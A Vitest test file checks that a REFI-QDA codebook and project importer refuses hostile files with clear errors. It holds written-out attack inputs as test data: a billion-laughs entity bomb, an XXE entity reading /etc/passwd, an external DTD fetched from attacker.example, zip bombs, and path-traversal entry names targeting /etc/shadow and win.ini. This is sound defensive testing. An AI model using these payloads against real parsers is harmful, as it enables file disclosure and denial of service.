import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { QdaImportError } from '../../src/domain/research/refi-qda/errors';
import { projectToQdpx } from '../../src/domain/research/refi-qda/export-qdpx';
import { qdcToCodebook } from '../../src/domain/research/refi-qda/import-qdc';
import { qdpxToProject } from '../../src/domain/research/refi-qda/import-qdpx';
import { sampleQdaProject } from '../../src/domain/research/refi-qda/sample-project';

// Each case must end in a clear refusal well within this time; a hang or a blow-up fails the test.
const NEVER_HANGS = 20_000;
const MB = 1024 * 1024;

function refusal(read: () => unknown): QdaImportError {
  try {
    read();
  } catch (error) {
    if (error instanceof QdaImportError) return error;
    throw error;
  }
  throw new Error('expected the file to be refused');
}

function qdpxWith(qde: string | Uint8Array, extra: Record<string, Uint8Array> = {}): Uint8Array {
  return zipSync({ 'project.qde': typeof qde === 'string' ? strToU8(qde) : qde, ...extra });
}

/** Sets the uncompressed size every central-directory entry declares: the lie a zip bomb tells. */
function declareUncompressedSize(bytes: Uint8Array, size: number): Uint8Array {
  const copy = bytes.slice();
  const view = new DataView(copy.buffer);
  for (let at = 0; at + 4 <= copy.length; at += 1) if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, size, true);
  return copy;
}

/** Renames an entry in both its local and central header (same length, so offsets stay right). */
function renameEntry(bytes: Uint8Array, from: string, to: string): Uint8Array {
  const copy = bytes.slice();
  const pattern = strToU8(from);
  for (let at = 0; at <= copy.length - pattern.length; at += 1) {
    if (pattern.every((byte, index) => copy[at + index] === byte)) copy.set(strToU8(to), at);
  }
  return copy;
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>`;

describe('hostile REFI-QDA files are refused with a clear error, never a hang', () => {
  it('billion laughs, in a codebook and in a project', () => {
    const codebook = `${BILLION_LAUGHS}<CodeBook xmlns="urn:QDA-XML:codebook:1.0" origin="&lol9;"><Codes/></CodeBook>`;
    const error = refusal(() => qdcToCodebook(codebook));
    expect(error.reason).toBe('FORBIDDEN_DTD');
    expect(error.message).toContain('contains a DOCTYPE or ENTITY declaration');
    const project = `${BILLION_LAUGHS}<Project xmlns="urn:QDA-XML:project:1.0" name="&lol9;"/>`;
    expect(refusal(() => qdpxToProject(qdpxWith(project))).reason).toBe('FORBIDDEN_DTD');
  }, NEVER_HANGS);

  it('an external entity reading file:///etc/passwd, without ever reading it', () => {
    const xxe =
      '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' +
      '<Project xmlns="urn:QDA-XML:project:1.0" name="&xxe;"><Description>&xxe;</Description></Project>';
    const error = refusal(() => qdpxToProject(qdpxWith(xxe)));
    expect(error.reason).toBe('FORBIDDEN_DTD');
    expect(error.message).not.toContain('root:');
    expect(refusal(() => qdcToCodebook(xxe.replace(/Project/g, 'CodeBook'))).reason).toBe('FORBIDDEN_DTD');
  }, NEVER_HANGS);

  it('a parameter entity hidden after the XML declaration in UTF-16', () => {
    const xml = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><CodeBook/>';
    const utf16 = new Uint8Array([0xff, 0xfe, ...[...xml].flatMap((character) => [character.charCodeAt(0), 0])]);
    expect(refusal(() => qdcToCodebook(utf16)).reason).toBe('FORBIDDEN_DTD');
  }, NEVER_HANGS);

  it('the wrong namespace', () => {
    const error = refusal(() => qdcToCodebook('<CodeBook xmlns="urn:evil"><Codes/></CodeBook>', { fileName: 'codes.qdc' }));
    expect(error).toMatchObject({
      reason: 'WRONG_ROOT',
      message: 'codes.qdc should start with <CodeBook> in namespace urn:QDA-XML:codebook:1.0, but starts with <CodeBook> in namespace urn:evil. Its namespace must be exactly urn:QDA-XML:codebook:1.0.',
    });
    const project = '<Project xmlns="urn:QDA-XML:codebook:1.0" name="x"/>';
    expect(refusal(() => qdpxToProject(qdpxWith(project))).reason).toBe('WRONG_ROOT');
  }, NEVER_HANGS);

  it('a 60 MB archive and a 60 MB codebook, before unpacking or parsing them', () => {
    const sixtyMegabytes = new Uint8Array(60 * MB);
    const archive = refusal(() => qdpxToProject(sixtyMegabytes, { fileName: 'huge.qdpx' }));
    expect(archive).toMatchObject({ reason: 'FILE_TOO_LARGE', message: 'huge.qdpx is 60 MB, over the 50 MB limit.' });
    sixtyMegabytes.set(strToU8('<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>'));
    const codebook = refusal(() => qdcToCodebook(sixtyMegabytes, { fileName: 'huge.qdc' }));
    expect(codebook).toMatchObject({ reason: 'FILE_TOO_LARGE', message: 'huge.qdc is 60 MB, over the 20 MB limit.' });
  }, NEVER_HANGS);

  it('a zip bomb that declares its true size: refused from the directory, before inflating', () => {
    const bomb = qdpxWith(new Uint8Array(32 * MB));
    expect(bomb.length).toBeLessThan(MB);
    const error = refusal(() => qdpxToProject(bomb));
    expect(error).toMatchObject({ reason: 'FILE_TOO_LARGE', message: 'The project file: entry "project.qde" declares 32 MB, over the 20 MB limit.' });
  }, NEVER_HANGS);

  it('a zip bomb that lies about its size: inflation stops as soon as the lie shows', () => {
    const bomb = declareUncompressedSize(qdpxWith(new Uint8Array(32 * MB)), 1000);
    const error = refusal(() => qdpxToProject(bomb));
    expect(error.reason).toBe('FILE_TOO_LARGE');
    expect(error.message).toContain('inflates to more than the 1000 bytes it declares (a damaged archive or a zip bomb)');
  }, NEVER_HANGS);

  it('source texts that together unpack past the cap', () => {
    const project = sampleQdaProject();
    project.sources[0]!.plainText += ' '.repeat(3 * MB);
    const error = refusal(() => qdpxToProject(projectToQdpx(project), { limits: { maxUncompressedBytes: 2 * MB } }));
    expect(error).toMatchObject({ reason: 'FILE_TOO_LARGE', message: expect.stringContaining('unpacks to more than 2 MB') });
  }, NEVER_HANGS);

  it('entry names that climb out of the archive (../), absolute or with a drive letter', () => {
    const valid = projectToQdpx(sampleQdaProject());
    const sourceName = `sources/${sampleQdaProject().sources[0]!.guid}.txt`;
    for (const hostile of ['../../../../../../../etc/passwd', '/etc/shadow', 'C:\\Windows\\win.ini', 'sources/../../../evil.sh']) {
      const renamed = renameEntry(valid, sourceName, hostile.padEnd(sourceName.length, 'x'));
      const error = refusal(() => qdpxToProject(renamed, { fileName: 'evil.qdpx' }));
      expect(error.reason).toBe('UNSAFE_ZIP');
      expect(error.message).toMatch(/^evil\.qdpx contains an entry named ".*" that points outside the archive; the file was refused\.$/);
    }
  }, NEVER_HANGS);

  it('elements nested ten thousand deep', () => {
    const deep = `<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>${'<Code guid="c0000000-0000-4000-8000-000000000001" name="x" isCodable="true">'.repeat(10_000)}${'</Code>'.repeat(10_000)}</Codes></CodeBook>`;
    expect(refusal(() => qdcToCodebook(deep)).reason).toBe('MALFORMED_XML');
  }, NEVER_HANGS);

  it('bytes that are no zip at all, and a truncated archive', () => {
    expect(refusal(() => qdpxToProject(strToU8('PK\u0003\u0004 not really'))).reason).toBe('NOT_A_ZIP');
    const valid = projectToQdpx(sampleQdaProject());
    expect(refusal(() => qdpxToProject(valid.subarray(0, valid.length - 30))).reason).toBe('NOT_A_ZIP');
  }, NEVER_HANGS);
});
